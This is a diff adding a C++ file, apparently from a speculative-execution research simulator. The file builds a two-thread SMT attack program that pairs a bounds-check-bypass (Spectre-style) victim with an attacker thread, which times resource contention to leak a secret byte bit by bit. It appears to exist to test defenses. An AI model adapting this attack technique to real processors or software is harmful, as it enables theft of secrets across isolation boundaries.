@@ -1,0 +1,241 @@
+#include "attacks/smt_channel.hh"
+
+#include "attacks/covert_channel.hh"
+
+namespace nda {
+
+using namespace attack_layout;
+
+namespace {
+
+/** Spin iterations before a rendezvous is abandoned. */
+constexpr std::int64_t kSpinTimeout = 200000;
+
+} // namespace
+
+Program
+buildSmtAttackProgram(ProgramBuilder &b, std::uint8_t secret,
+                      const SmtWindowPlan &plan, const SmtGadgetBody &gadget,
+                      const SmtTimedProbe &probe)
+{
+    declareChannelSegments(b);
+    b.zeroSegment(kVictimArray, 16);
+    b.word(kBoundAddr, 16);
+    b.segment(kSecretAddr, {secret});
+    b.zeroSegment(kSmtSyncBase, 512);
+
+    const int windows = plan.totalWindows();
+
+    auto main_l = b.futureLabel();
+    b.jmp(main_l);
+
+    // --- victim_fn(x in r10), link in r30 -------------------------------
+    // The classic bounds-check-bypass skeleton; the attack-specific
+    // burst lives in the wrong path behind the flushed bound.
+    auto victim_fn = b.label();
+    auto vend = b.futureLabel();
+    b.movi(11, static_cast<std::int64_t>(kBoundAddr));
+    b.load(12, 11, 0, 8);            // bound (flushed: resolves late)
+    b.bgeu(10, 12, vend);            // trained not-taken; steered here
+    b.movi(13, static_cast<std::int64_t>(kVictimArray));
+    b.add(13, 13, 10);
+    b.load(14, 13, 0, 1);            // access: secret = array[x]
+    gadget(b, vend);                 // transmit: contend iff bit == want
+    b.bind(vend);
+    b.ret(30);
+
+    // --- victim window loop (thread 0) ----------------------------------
+    b.bind(main_l);
+    b.movi(1, static_cast<std::int64_t>(kSecretAddr));
+    b.prefetch(1, 0);                // warm: the victim used it recently
+    b.movi(21, 1);                   // r21 = window number n
+    auto bail = b.futureLabel();
+    auto window_loop = b.label();
+    {
+        // Wait (with timeout) for the attacker to open window n. The
+        // exit is the *fall-through* so the predicted direction while
+        // waiting stays in the loop — an exit-by-taken-branch would
+        // get predicted eagerly and speculatively pre-execute the
+        // window body before the rendezvous (warming its lines).
+        b.movi(5, 0);
+        auto spin = b.label();
+        b.movi(1, static_cast<std::int64_t>(kSmtFlag));
+        b.load(2, 1, 0, 8);
+        b.addi(5, 5, 1);
+        b.movi(3, kSpinTimeout);
+        b.bgeu(5, 3, bail);          // no co-resident attacker: give up
+        b.bltu(2, 21, spin);
+
+        // Train the bounds check in-bounds with the burst disarmed
+        // (want = 2 never equals a bit value).
+        b.movi(23, 2);
+        b.movi(18, 0);
+        auto train = b.label();
+        b.movi(10, 5);
+        b.call(30, victim_fn);
+        b.addi(18, 18, 1);
+        b.movi(3, 4);
+        b.blt(18, 3, train);
+
+        // Arm: fetch the probed bit and this window's polarity, and
+        // re-warm the secret's line (the working set can evict it; a
+        // late-resolving secret makes the burst miss the window).
+        b.movi(1, static_cast<std::int64_t>(kSmtBit));
+        b.load(22, 1, 0, 8);
+        b.movi(1, static_cast<std::int64_t>(kSmtWant));
+        b.load(23, 1, 0, 8);
+        b.movi(1, static_cast<std::int64_t>(kSecretAddr));
+        b.prefetch(1, 0);
+
+        // Fresh gshare slot, wide window, then ack and mis-speculate.
+        emitHistoryScramble(b, 21);
+        b.movi(10, kSecretDelta);
+        b.movi(1, static_cast<std::int64_t>(kBoundAddr));
+        b.clflush(1, 0);
+        b.fence();
+        b.movi(1, static_cast<std::int64_t>(kSmtAck));
+        b.store(1, 0, 21, 8);        // commit right before the gadget
+        b.call(30, victim_fn);
+        b.fence();
+    }
+    b.addi(21, 21, 1);
+    b.movi(3, windows + 1);
+    b.bltu(21, 3, window_loop);
+    b.bind(bail);
+    b.halt();
+
+    // --- attacker loop (thread 1) ---------------------------------------
+    // One loop, not an unrolled window sequence: fetch models the
+    // i-cache, so unrolled per-window code would take a string of
+    // cold i-side misses every window and the probe would usually
+    // start after the victim's speculation window had already closed.
+    // A loop body is i-warm from the first windows on, and the window
+    // parameters (bit, polarity, accumulator slot) are data-driven.
+    const Addr attacker_entry = b.here();
+    auto abort_l = b.futureLabel();
+    auto write_l = b.futureLabel();
+
+    b.movi(18, 1);                   // r18 = window number n
+    b.movi(3, 7);                    // innocuous probe operand
+
+    auto window_l = b.label();
+    {
+        // k = n - warmups - 1; window order per bit is A,B,A,B...
+        // so bit = k >> 2 (roundsPerBit == 2) and want = (k & 1) ^ 1.
+        // Warmup windows (k < 0) publish garbage parameters and
+        // accumulate into a trash slot below.
+        b.addi(16, 18, -(plan.warmupWindows + 1));
+        b.andi(17, 16, 1);
+        b.xori(17, 17, 1);           // r17 = want
+        b.shri(19, 16, 2);
+        b.andi(19, 19, 7);           // r19 = bit
+        b.movi(7, static_cast<std::int64_t>(kSmtBit));
+        b.store(7, 0, 19, 8);
+        b.movi(7, static_cast<std::int64_t>(kSmtWant));
+        b.store(7, 0, 17, 8);
+        b.movi(7, static_cast<std::int64_t>(kSmtFlag));
+        b.store(7, 0, 18, 8);        // stores commit in program order
+
+        // Fall-through exit for the same reason as the victim's spin:
+        // a predicted-taken exit would pre-run the timed probe
+        // speculatively and warm the probe line before measuring.
+        // Each poll's address is chained off the previous poll's value
+        // ((v & 0) == 0): without the chain, run-ahead fills the ROB
+        // with polls that all executed before the ack store committed,
+        // and draining those stale iterations delays the probe past
+        // the victim's speculation window.
+        b.movi(10, 0);
+        b.movi(7, static_cast<std::int64_t>(kSmtAck));
+        auto spin = b.label();
+        b.load(5, 7, 0, 8);
+        b.andi(6, 5, 0);
+        b.movi(7, static_cast<std::int64_t>(kSmtAck));
+        b.add(7, 7, 6);
+        b.addi(10, 10, 1);
+        b.movi(9, kSpinTimeout);
+        b.bgeu(10, 9, abort_l);      // victim never launched: no signal
+        b.bltu(5, 18, spin);
+
+        b.movi(26, 0);
+        probe(b, 26);                // r26 = this window's probe time
+
+        // Accumulate into the bit's A (want==1) or B (want==0) slot;
+        // warmup windows are steered to a trash slot instead:
+        // addr = trash + (slot - trash) * (n > warmups).
+        b.shli(8, 19, 4);
+        b.movi(7, static_cast<std::int64_t>(kSmtSyncBase) + 0x40);
+        b.add(7, 7, 8);
+        b.xori(9, 17, 1);
+        b.shli(9, 9, 3);
+        b.add(7, 7, 9);
+        b.movi(9, plan.warmupWindows);
+        b.cmpltu(9, 9, 18);
+        b.movi(8, static_cast<std::int64_t>(kSmtSyncBase) + 0x1C0);
+        b.sub(7, 7, 8);
+        b.mul(7, 7, 9);
+        b.add(7, 7, 8);
+        b.load(6, 7, 0, 8);
+        b.add(6, 6, 26);
+        b.store(7, 0, 6, 8);
+
+        b.addi(18, 18, 1);
+        b.movi(9, windows + 1);
+        b.bltu(18, 9, window_l);
+    }
+
+    // Decode (timing no longer matters past this point): bit = 1 iff
+    // T_A clears T_B by the margin; neither clearing the other means
+    // the burst never ran (the victim is protected) and the bit is
+    // counted as ambiguous.
+    b.movi(20, 0);                   // r20 = decoded byte
+    b.movi(21, 0);                   // r21 = ambiguous-bit count
+    for (int bit = 0; bit < 8; ++bit) {
+        b.movi(8, static_cast<std::int64_t>(kSmtSyncBase) + 0x40 +
+                      bit * 16);
+        b.load(24, 8, 0, 8);         // accumulated T_A (want bit == 1)
+        b.load(25, 8, 8, 8);         // accumulated T_B (want bit == 0)
+        b.addi(8, 25, plan.margin);
+        b.cmpltu(9, 8, 24);          // confident 1
+        b.addi(10, 24, plan.margin);
+        b.cmpltu(11, 10, 25);        // confident 0
+        b.or_(12, 9, 11);
+        b.xori(12, 12, 1);
+        b.add(21, 21, 12);
+        b.shli(9, 9, bit);
+        b.add(20, 20, 9);
+    }
+
+    // All eight bits ambiguous = no signal at all: push the decoded
+    // value out of range so no results slot reads "fast".
+    b.movi(9, 8);
+    b.cmpeq(10, 21, 9);
+    b.muli(11, 10, 256);
+    b.add(20, 20, 11);
+    b.jmp(write_l);
+
+    b.bind(abort_l);
+    b.movi(20, 256);
+
+    // Timing table: 10 cycles for the decoded byte, 1000 for the rest
+    // (the channel signals via speed, like the cache recover loop).
+    b.bind(write_l);
+    b.movi(12, 0);
+    auto wloop = b.label();
+    b.cmpeq(13, 12, 20);
+    b.muli(14, 13, -990);
+    b.addi(14, 14, 1000);
+    b.movi(15, static_cast<std::int64_t>(kResultsBase));
+    b.shli(16, 12, 3);
+    b.add(15, 15, 16);
+    b.store(15, 0, 14, 8);
+    b.addi(12, 12, 1);
+    b.movi(9, 256);
+    b.blt(12, 9, wloop);
+    b.halt();
+
+    Program p = b.build();
+    p.smtEntry = attacker_entry;
+    return p;
+}
+
+} // namespace nda
